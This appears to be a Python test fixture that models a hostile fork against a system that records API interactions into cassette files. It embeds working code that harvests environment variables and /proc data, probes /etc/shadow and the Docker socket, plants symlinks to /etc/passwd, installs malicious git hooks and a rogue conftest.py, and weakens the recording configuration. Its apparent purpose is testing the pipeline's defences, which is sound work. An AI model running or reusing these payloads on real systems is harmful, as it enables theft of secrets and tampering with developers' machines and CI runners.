"""Code of a fork that takes what it can get, and sets traps for those who handle its recordings."""

from __future__ import annotations

#: It writes what it has got where it may.
THIEF = """\
import glob
import os
import pathlib

loot = pathlib.Path("/srv/recording/loot")
loot.mkdir(exist_ok=True)


def take(name, what):
    try:
        data = what()
    except OSError as error:
        data = repr(error)
    (loot / name.replace("/", "_")).write_text(str(data))


take("environment", lambda: dict(os.environ))
take("user", os.getuid)
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/maps"):
    take(path, lambda: pathlib.Path(path).read_bytes())
for path in glob.glob("/proc/[0-9]*/mem"):
    take(path, lambda: open(path, "rb"))
for path in ("/var/run/docker.sock", "/etc/shadow", "/root", "/proc/1/root", os.environ.get("RUNNER_TEMP", "/none")):
    take(path, lambda: os.listdir(path))
"""
#: What it leaves for those who handle its recordings.
TRAPS = """\


def set_traps():
    project = pathlib.Path.cwd()
    (project / "cassettes").mkdir(exist_ok=True)
    text = "version: 1\\ninteractions: []\\n"
    (project / "cassettes" / "link.yaml").symlink_to("/etc/passwd")
    (project / "cassettes" / "directory").symlink_to("/etc")
    (project / "cassettes" / "a\\nb.yaml").write_text(text)
    (project / "cassettes" / "noise.yaml").write_bytes(bytes(range(256)))
    (project / "cassettes" / "huge.yaml").open("wb").truncate(2 << 20)
    (project / "cassettes" / "conftest.py").write_text("raise SystemExit('run by who pushes')")
    (project / "cassettes" / "pytest.ini").write_text("[pytest]")
    (project / "cassettes" / "it.media").mkdir()
    (project / "cassettes" / "it.media" / "0.png").symlink_to("/etc/passwd")
    (project / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
    for hook in ("pre-commit", "post-checkout", "pre-push", "reference-transaction"):
        (project / ".git" / "hooks" / hook).write_text("#!/bin/sh\\ntouch $HOME/../../run-by-who-pushes\\n")
        (project / ".git" / "hooks" / hook).chmod(0o755)
    (project / "cassettes.lock").write_text("cassettes/test_old/test_old.yaml\\tnonsense\\n")


import atexit

atexit.register(set_traps)
"""
INI = "[pytest]\ninteractions_store = /srv/recording/elsewhere\ninteractions_skip_rules = google-api-key\n"
GREEDY = """

import httpx

url = os.environ.get("GOOGLE_GEMINI_BASE_URL")
if url:
    for method, path in (("GET", "/v1beta/files"), ("GET", "/v1beta/interactions"), ("TRACE", "/v1beta/interactions")):
        answer = httpx.request(method, url + path)
        take(method + path, lambda: f"{answer.headers} {answer.text}")
"""
